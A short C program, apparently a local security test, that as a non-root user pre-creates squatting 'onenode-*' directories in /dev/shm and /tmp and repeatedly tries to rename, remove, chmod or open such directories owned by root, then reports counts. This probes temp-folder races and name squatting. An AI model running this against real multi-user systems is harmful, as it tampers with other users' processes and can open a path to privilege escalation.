/* stranger SECONDS: as another user, tries for so long to read, move or remove what processes make to meet,
 * and takes names of the folders in which root's processes meet. Prints what it saw and what it could do. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *const folders[] = {"/dev/shm", "/tmp"};
static long seen, done;

static void attack(const char *path)
{
    char moved[600];
    struct stat status;
    if (stat(path, &status) != 0 || status.st_uid == getuid())
        return;
    seen++;
    snprintf(moved, sizeof moved, "%s.mine", path);
    if (rename(path, moved) == 0 || rmdir(path) == 0 || chmod(path, 0777) == 0)
        done++;
    int fd = open(path, O_RDONLY | O_DIRECTORY);
    if (fd >= 0)
        done++, close(fd);
}

/* A folder where root's processes look for theirs first, unless they are meeting there. */
static int lure(char *path, const char *folder, int name, int mode)
{
    snprintf(path, 512, "%s/onenode-0-%d", folder, name);
    return mkdir(path, 0700) == 0 && chmod(path, mode) == 0;
}

int main(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
    char own[2][3][512];
    static const int modes[] = {0700, 0755, 0777};
    if (getuid() == 0)
        return 2;
    int lures[6];
    for (int i = 0; i < 6; i++)
        lures[i] = lure(own[i / 3][i % 3], folders[i / 3], i % 3, modes[i % 3]);
    while (time(NULL) <= end) {
        for (int i = 0; i < 2; i++) {
            DIR *folder = opendir(folders[i]);
            for (struct dirent *entry; folder && (entry = readdir(folder));) {
                char path[512];
                snprintf(path, sizeof path, "%s/%s", folders[i], entry->d_name);
                if (strncmp(entry->d_name, "onenode-", 8) == 0)
                    attack(path);
            }
            if (folder)
                closedir(folder);
        }
    }
    for (int i = 0; i < 6; i++)
        if (lures[i] && rmdir(own[i / 3][i % 3]) != 0)
            done++; /* somebody uses it */
    printf("seen %ld done %ld\n", seen, done);
    return 0;
}
